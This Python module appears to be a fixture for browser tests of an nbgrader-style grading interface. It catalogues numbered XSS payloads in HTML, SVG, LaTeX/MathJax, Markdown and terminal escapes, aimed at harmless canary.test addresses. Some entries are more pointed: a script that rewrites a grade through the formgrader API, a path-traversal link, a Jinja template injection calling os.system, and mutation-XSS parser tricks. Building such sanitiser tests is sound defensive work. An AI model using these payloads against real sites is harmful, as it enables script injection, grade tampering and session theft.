"""Markup that would run a script, load something or lead astray, if a page let it through.

In each, RUN stands for a call that the browser tests hear, and CANARY for an address that
nothing may ask for; both carry the payload's number, so that a hole names itself.
"""

from __future__ import annotations

from dataclasses import dataclass

CANARY_HOST = "canary.test"
_IMG = "<img src=x onerror=RUN>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script></svg>'


@dataclass(frozen=True)
class Payload:
    """`text` with RUN and CANARY filled in; `live` where a bare page falls for it at once."""

    number: int
    name: str
    text: str
    live: bool = False


# What a bare page falls for as soon as it is parsed.
_LIVE = {
    "script": "<script>RUN</script>",
    "script from elsewhere": "<script src=CANARY></script>",
    "script as a module": "<script type=module>RUN</script>",
    "script that opens a window": "<script>open('CANARY')</script>",
    "script that goes elsewhere": "<script>location='CANARY'</script>",
    "script that alerts": "<script>alert('CANARY')</script>",
    "script that logs": "<script>console.log('CANARY')</script>",
    "script that changes a score": "<script>fetch('/formgrader/api/grade/1?CANARY',"
    "{method:'PUT',body:'{\"manual_score\":99}'})</script>",
    "script in the case of old": "<ScRiPt>RUN</sCrIpT>",
    "script behind a quote": '<IMG """><SCRIPT>RUN</SCRIPT>">',
    "img onerror": _IMG,
    "img with slashes": "<img/src/onerror=RUN>",
    "img with a form feed": "<img\x0csrc=x\x0conerror=RUN>",
    "img from elsewhere": "<img src=CANARY>",
    "img srcset": '<img srcset="CANARY 1x">',
    "picture": "<picture><source srcset=CANARY><img></picture>",
    "image that is none": "<image src=x onerror=RUN>",
    "input image": "<input type=image src=x onerror=RUN>",
    "autofocus": "<input autofocus onfocus=RUN>",
    "details ontoggle": "<details open ontoggle=RUN>x</details>",
    "animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=RUN>",
    "style from elsewhere": "<style>@import 'CANARY'</style>",
    "style onload": "<style onload=RUN></style>",
    "style attribute": "<b style=\"background:url(CANARY)\">x</b>",
    "stylesheet": "<link rel=stylesheet href=CANARY onerror=RUN>",
    "table background": "<table background=CANARY><tr><td>x</table>",
    "video poster": "<video poster=CANARY></video>",
    "video source": "<video><source onerror=RUN src=x></video>",
    "audio": "<audio src=x onerror=RUN></audio>",
    "object": "<object data=CANARY></object>",
    "object data": "<object data='data:text/html,<script src=CANARY></script>'></object>",
    "embed": "<embed src=CANARY>",
    "iframe": "<iframe src=CANARY></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "iframe script address": "<iframe src=javascript:parent.RUN></iframe>",
    "iframe data": "<iframe src='data:text/html,<script src=CANARY></script>'></iframe>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=CANARY'>",
    "body onload": "<body onload=RUN>",
    "body onpageshow": "<body onpageshow=RUN>",
    "content visibility": "<b style='display:block;content-visibility:auto' "
    "oncontentvisibilityautostatechange=RUN>x</b>",
    "shadow root": f"<div><template shadowrootmode=open>{_IMG}</template></div>",
    "svg onload": "<svg onload=RUN>",
    "svg script": "<svg><script>RUN</script></svg>",
    "svg script link": "<svg><script href=CANARY /></svg>",
    "svg animate": "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "svg set": "<svg><set onbegin=RUN attributeName=x></svg>",
    "svg image": "<svg><image href=CANARY></svg>",
    "svg foreign object": f"<svg><foreignObject>{_IMG}</foreignObject></svg>",
    "math then html": f"<math><mtext>{_IMG}</mtext></math>",
    "annotation": f"<math><annotation-xml encoding=text/html>{_IMG}</annotation-xml></math>",
    "comment with a bang": f"<!-- --!>{_IMG} -->",
    "comment that ends at once": f"<!-->{_IMG}-->",
    "comment in a comment": f"<!--<!---->{_IMG}-->",
    "processing instruction": f"<?xml version='1.0'?>{_IMG}",
    "character data outside svg": f"<![CDATA[>{_IMG}]]>",
    "closing tag with attributes": f"</br/onload=1>{_IMG}",
    "unknown tag": "<xss style='animation:k 1s' onanimationstart=RUN><style>@keyframes k{}</style>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "textarea": "<textarea><p title='</textarea><img src=x onerror=RUN>'>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "noembed": "<noembed><p title='</noembed><img src=x onerror=RUN>'>",
    "mutation by p in svg": "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "mutation by title": "<svg><title><style><p id='</style></title><img src=x onerror=RUN>'>",
    "mutation by annotation": "<math><annotation-xml encoding='text/html'><style><img title='"
    "</style><img src=x onerror=RUN>'>",
    "deeper than a parser goes": "<div>" * 900 + _IMG,
}  # fmt: skip

# What needs a click, a page with jQuery, another parser or another browser.
_DORMANT = {
    "script with a null": "<scr\0ipt>RUN</scr\0ipt>",
    "script type of MathJax": "<script type='math/tex'>\\href{javascript:RUN}{x}</script>",
    "script that configures MathJax": "<script type='text/x-mathjax-config'>RUN</script>",
    "link": "<a href=javascript:RUN>x</a>",
    "link in another case": "<a href='JaVaScRiPt:RUN'>x</a>",
    "link with a tab": "<a href='java\tscript:RUN'>x</a>",
    "link with a newline entity": "<a href='java&NewLine;script&colon;RUN'>x</a>",
    "link with a control character": "<a href='\x01javascript:RUN'>x</a>",
    "link data": "<a href='data:text/html,<script src=CANARY></script>'>x</a>",
    "link to the top": "<a target=_top href=CANARY>x</a>",
    "link with ping": "<a ping=CANARY href=#>x</a>",
    "link to a hole of the formgrader": "<a href='/formgrader/manage_students/%22-RUN-%22'>x</a>",
    "link to a file of the student": "<a href='..%2f..%2f..%2fsubmitted/mallory/tiny/evil.html'>"
    "x</a>",
    "link without a scheme": "<a href='//canary.test/x'>x</a>",
    "area": "<map name=m><area href=javascript:RUN shape=default></map>",
    "form": "<form action=javascript:RUN><input type=submit></form>",
    "form to the API": "<form method=post action=/formgrader/api/x><button>x</button></form>",
    "button formaction": "<form><button formaction=javascript:RUN>x</button></form>",
    "base": "<base href=//canary.test/>",
    "base script": "<base href='javascript:/a/-RUN//'><a href='//'>x</a>",
    "onmouseover": "<b onmouseover=RUN>x</b>",
    "onpointerenter": "<b onpointerenter=RUN>x</b>",
    "onscroll": "<div onscroll=RUN style='overflow:auto;height:9px'><p>x<p>y<p>z</div>",
    "onwheel": "<b onwheel=RUN>x</b>",
    "oncopy": "<b oncopy=RUN>x</b>",
    "onbeforematch": "<b hidden=until-found onbeforematch=RUN>x</b>",
    "popover": "<button popovertarget=p>x</button><b popover id=p onbeforetoggle=RUN>x</b>",
    "attribute behind a slash": "<b/onclick=RUN>x</b>",
    "attribute with a null": "<b o\0nclick=RUN>x</b>",
    "svg link": "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
    "svg animated link": "<svg><a><animate attributeName=href values=javascript:RUN />"
    "<text y=9>x</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN></svg>#x'></svg>",
    "math link": "<math><mi href=javascript:RUN>x</mi></math>",
    "math action": "<math><maction actiontype='statusline#CANARY' href=javascript:RUN>x</maction>"
    "</math>",
    "script that is not closed": "<script>RUN//",
    "autofocus on any tag": "<b autofocus tabindex=0 onfocus=RUN>x</b>",
    "marquee": "<marquee onstart=RUN>x</marquee>",
    "escaped once": "&lt;img src=x onerror=RUN&gt;",
    "escaped twice": "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "in UTF-7": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "template": f"<template>{_IMG}</template>",
    "select": "<select><template><style><!--</style><a rel='--></style>" + _IMG + "'></select>",
    "plaintext": "<plaintext><img src=x onerror=RUN>",
    "mutation by mglyph": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "mutation by nested forms": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=RUN>",
    "mutation by desc": "<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=RUN></desc>",
    "mutation by character data": "<svg><style><![CDATA[</style><img src=x onerror=RUN>]]>",
    "tooltip of Bootstrap": "<b data-toggle=tooltip data-html=true title='<img src=x "
    "onerror=RUN>'>x</b>",
    "collapse of Bootstrap": "<a data-toggle=collapse data-target='<img src=x onerror=RUN>'>x</a>",
    "link of the formgrader": "<a data-link='javascript:RUN'>x</a>",
    "cell of the formgrader": "<div class=nbgrader_cell><input class='score tabbable' "
    "id=check-double value=99></div>",
    "clobbered names": "<a id=base_url></a><a id=MathJax></a><form name=cookie></form>",
    "template of Jinja": "{{ cycler.__init__.__globals__.os.system('true') }}{% raw %}",
}  # fmt: skip

_LATEX = {
    "href": r"\href{javascript:RUN}{x}",
    "href in another case": r"\href{JaVaScRiPt:RUN}{x}",
    "href with a newline": "\\href{java\nscript:RUN}{x}",
    "href with a blank": r"\href{ javascript:RUN}{x}",
    "href data": r"\href{data:text/html,<script src=CANARY></script>}{x}",
    "href elsewhere": r"\href{CANARY}{x}",
    "href by another name": r"\let\x=\href \x{CANARY}{x}",
    "href by a macro": r"\def\x#1{\href{#1}{x}}\x{CANARY}",
    "href by an environment": r"\begin{align}\href{CANARY}{x}\end{align}",
    "a token with a link": r"\mmlToken{mi}[href='CANARY']{x}",
    "a token with a script": r"\mmlToken{mi}[href='javascript:RUN']{x}",
    "a token with an event": r"\mmlToken{mi}[onclick='RUN']{x}",
    "a token with a style": r"\mmlToken{mi}[style='background:url(CANARY)']{x}",
    "unicode": r"\unicode{<img src=x onerror=RUN>}",
    "unicode with a font": r"\unicode[x\"><img src=x onerror=RUN>]{65}",
    "style": r"\style{background:url(CANARY)}{x}",
    "style behind a quote": r"\style{\"><img src=x onerror=RUN>}{x}",
    "class": r"\class{\"><img src=x onerror=RUN>}{x}",
    "id": r"\cssId{submission_id}{x}\cssId{\"><img src=x onerror=RUN>}{x}",
    "box": r"\bbox[border:1px;background:url(CANARY)]{x}",
    "text": r"\text{<img src=x onerror=RUN>}",
    "text that ends the formula": r"\text{$<img src=x onerror=RUN>$}",
    "verb": r"\verb|<img src=x onerror=RUN>|",
    "tag": r"\tag{<img src=x onerror=RUN>}",
    "label": r"\label{\"><img src=x onerror=RUN>} x \ref{\"><img src=x onerror=RUN>}",
    "colour": r"\color{\";background:url(CANARY)}{x}",
    "extension from elsewhere": r"\require{CANARY/x.js}",
    "extension by a path": r"\require{../../../../../canary}",
    "extension that may": r"\require{action}\texttip{x}{<img src=x onerror=RUN>}",
    "chemistry": r"\ce{<img src=x onerror=RUN>}",
    "macro that calls itself": r"\def\x{\x\x}\x",
    "macro that grows": r"\def\a{xxxxxxxx}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\c\c\c\c",
    "url": r"\url{javascript:RUN}\includegraphics{CANARY}",
    "unknown command": r"\html{<img src=x onerror=RUN>}\<img src=x onerror=RUN>",
}

_MARKDOWN = {
    "link": "[x](javascript:RUN)",
    "link in another case": "[x](JaVaScRiPt:RUN)",
    "link with an entity": "[x](java&#115;cript&colon;RUN)",
    "link in brackets": "[x](<javascript:RUN>)",
    "link with a title": "[x](CANARY '\"onmouseover=RUN')",
    "link to a hole of the formgrader": "[x](/formgrader/manage_students/%22-RUN-%22)",
    "link by reference": "[x][1]\n\n[1]: javascript:RUN 'onmouseover=RUN'",
    "image with a handler": '![x](x"onerror="RUN)',
    "image from elsewhere": "![x](CANARY)",
    "image by script": "![x](javascript:RUN)",
    "image with a text": "![\"onerror='RUN'](x)",
    "attachment": "![x](attachment:evil.png)",
    "attachment that is not there": "![x](attachment:none.png)",
    "autolink": "<javascript:RUN>",
    "autolink elsewhere": "<CANARY>",
    "bare address": "CANARY",
    "comment": f"<!-- {_IMG} -->",
    "code with a language": f"```{_IMG}\nx\n```",
    "code with attributes": '```js" onmouseover="RUN\nx\n```',
    "code that is a diagram": "```mermaid\ngraph TD\nA-->B\nclick A call pwned(1)\n```",
    "code that ends": f"`x`{_IMG}`",
    "heading": f"# {_IMG}",
    "heading underlined": f"{_IMG}\n===",
    "table": f"| a | b |\n|---|---|\n| {_IMG} | [x](javascript:RUN) |",
    "quote": f"> {_IMG}",
    "list": f"- [x] {_IMG}\n- [ ](javascript:RUN)",
    "definition": f"x\n: {_IMG}",
    "formula": f"$a<b$ {_IMG} $$ {_IMG} $$",
    "second reading by a newline": "&#10;&#10;\\[x\\](javascript:RUN)&#10;",
    "second reading by a return": "&#13;&#13;\\[x\\](javascript:RUN)&#13;",
    "second reading of an attachment": "&#13;&#13;!\\[x\\](attachment:none.png)&#13;",
    "second reading of an address": "&#13;&#13;CANARY&#13;",
    "second reading by a separator": "&#x2028;&#x2029;&#x85;\\[x\\](javascript:RUN)",
    "second reading of a formula": "\\\\begin{x}\\[x\\](javascript:RUN)\\\\end{x}",
    "half a tag": "<img src=x onerror=RUN\n",
    "block": f"<div>\n\n{_IMG}\n\n</div>",
    "block of script": "<script>\n\nRUN\n\n</script>",
}


def _numbered(start: int, texts: dict[str, str], *, live: bool = False) -> list[Payload]:
    return [
        Payload(
            number,
            name,
            text.replace("RUN", f"pwned({number})").replace(
                "CANARY", f"https://{CANARY_HOST}/{number}"
            ),
            live,
        )
        for number, (name, text) in enumerate(texts.items(), start)
    ]


HTML = _numbered(1000, _LIVE, live=True) + _numbered(2000, _DORMANT)
LATEX = _numbered(3000, _LATEX)
MARKDOWN = _numbered(4000, _MARKDOWN)
SVG = _numbered(5000, {"svg": _SVG, "image in svg": f"<svg>{_IMG}</svg>"})
SCRIPTS = _numbered(6000, {"script": "RUN", "module": "import 'CANARY'"})
WORDS = _numbered(
    7000,
    {
        "a tag": _IMG,
        "a quote and a tag": f"'\"/>{_IMG}",
        "the end of code": f"`</code>{_IMG}`",
        "the end of a script": f"</script>{_IMG}",
        "a formula": r"$\href{CANARY}{x}$ \(\href{CANARY}{x}\)",
        "colours": f"\x1b[31m{_IMG}\x1b[0m",
        "colours that are none": f"\x1b[{_IMG}m x \x1b[38;2;1;2;'>{_IMG}m",
        "a terminal's link": "\x1b]8;;javascript:RUN\x07x\x1b]8;;\x07",
    },
)
EVERYTHING = [*HTML, *LATEX, *MARKDOWN, *SVG, *SCRIPTS, *WORDS]
